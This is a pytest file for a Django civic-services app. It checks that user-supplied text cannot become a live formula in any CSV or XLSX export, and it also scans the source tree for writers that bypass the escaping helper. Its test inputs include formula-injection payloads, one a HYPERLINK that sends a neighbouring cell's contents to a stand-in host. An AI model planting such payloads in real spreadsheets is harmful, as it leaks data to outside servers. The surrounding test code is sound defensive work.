"""Formula injection: no CSV or XLSX that Kelisim writes carries a live formula.

Text typed by anyone (an anonymous Open311 caller's name, an event title, a department's name, a
survey answer) is written into spreadsheets that staff open in Excel or LibreOffice. A cell that
starts with = + - @ (or a tab or carriage return before one) is run as a formula there:
=HYPERLINK(...) sends the sheet's neighbours to a stranger's server, DDE starts programs. Every
writer goes through `kelisim.core.tabular`, and every file is read back here cell by cell.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from openpyxl import load_workbook

from kelisim.accounts.models import Department, User
from kelisim.appeals.models import Appeal, Open311Key
from kelisim.appeals.services import key_hash
from kelisim.events.models import Event
from kelisim.surveys.models import Instrument, Response
from kelisim.territories.models import Territory

KORDAY, ZHAMBYL = "314800000", "310000000"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Толығырақ")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")
PACKAGE = Path(__file__).resolve().parent.parent


@pytest.fixture
def hostile(seed_visit, korday_department, client):  # type: ignore[no-untyped-def]
    """The demo visit with hostile text in every field a spreadsheet shows."""
    events = list(Event.objects.filter(visit=seed_visit).order_by("pk"))
    for event, text in zip(events, HOSTILE, strict=False):
        event.title_kk = event.title_ru = text
        event.venue_text = HOSTILE[0]
        event.save()
    Department.objects.update(name_kk=HOSTILE[1], name_ru=HOSTILE[1])
    Open311Key.objects.create(
        name="mobile",
        key_hash=key_hash("s3cret-key"),
        territory=Territory.objects.get(code=KORDAY),
        department=korday_department,
    )
    for text in HOSTILE:
        created = client.post(
            "/open311/v2/requests.json",
            {
                "api_key": "s3cret-key",
                "service_code": "land",
                "description": text,
                "first_name": text,
                "phone": "-1",
                "address_string": text,
            },
        )
        assert created.status_code == 201, created.content
    response = Response.objects.filter(version__instrument__code="tolerance_index").first()
    assert response is not None
    Response.objects.filter(pk=response.pk).update(occupation='=HYPERLINK("http://e.x")')  # 32 at most
    return seed_visit


def _xlsx_problems(content: bytes) -> list[str]:
    problems = []
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
    return problems


def _xlsx_text(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    }


def _csv_problems(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    problems = []
    for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for value in row:
            if value.startswith(FORMULA_START) and not NUMBER.match(value):
                problems.append(f"line {number}: {value!r}")
    return problems


def test_every_spreadsheet_export_reads_back_without_a_formula(hostile, tmp_path):
    admin = User.objects.get(username="admin")
    staff = Client()
    staff.force_login(admin)
    instrument = Instrument.objects.get(code="tolerance_index")
    files = {
        "appeals.xlsx": staff.get("/appeals/export.xlsx"),
        "events.csv": staff.get("/calendar/export.csv"),
        "events.xlsx": staff.get("/calendar/export.xlsx"),
        "visit.xlsx": staff.get(f"/visits/{hostile.pk}/report.xlsx"),
        "responses.csv": staff.get(f"/surveys/{instrument.pk}/responses.csv"),
        "responses.xlsx": staff.get(f"/surveys/{instrument.pk}/responses.xlsx"),
        "aggregates.csv": staff.get(f"/surveys/{instrument.pk}/aggregates.csv?group_by=occupation"),
        "aggregates.xlsx": staff.get(f"/surveys/{instrument.pk}/aggregates.xlsx?group_by=occupation"),
    }
    bodies = {}
    for name, response in files.items():
        assert response.status_code == 200, name
        bodies[name] = response.content
    call_command("summary", "--region", ZHAMBYL, "--period", "2023-05", "--output-dir", str(tmp_path))
    bodies["summary.xlsx"] = next(tmp_path.glob("*.xlsx")).read_bytes()

    problems = {
        name: _csv_problems(body) if name.endswith(".csv") else _xlsx_problems(body)
        for name, body in bodies.items()
    }
    assert problems == {name: [] for name in bodies}

    # The hostile text arrived where it was sent: as it was typed in the XLSX (as text, not run), and
    # with a quote before it in the CSV.
    appeals = _xlsx_text(bodies["appeals.xlsx"])
    assert {text.strip() for text in HOSTILE} <= appeals
    assert HOSTILE[0] in _xlsx_text(bodies["visit.xlsx"]) and HOSTILE[0] in _xlsx_text(bodies["events.xlsx"])
    assert HOSTILE[1] in _xlsx_text(bodies["summary.xlsx"])
    events_csv = bodies["events.csv"].decode("utf-8-sig")
    assert "'" + HOSTILE[0] in {cell for row in csv.reader(io.StringIO(events_csv)) for cell in row}
    assert Appeal.objects.filter(applicant_name=HOSTILE[0]).exists()


def test_every_csv_and_xlsx_writer_goes_through_the_escaping_helper():
    """A new export that writes CSV or XLSX by hand would skip the escaping: this finds it."""
    allowed = {
        PACKAGE / "core" / "tabular.py",
        # The ready instruments' XLSForm, built from constants in the code: no stored data in it.
        PACKAGE / "surveys" / "ready.py",
    }
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(")
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        if "tests" in path.parts or path in allowed:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if writers.search(line):
                found.append(f"{path.relative_to(PACKAGE)}:{number}: {line.strip()}")
    assert found == []
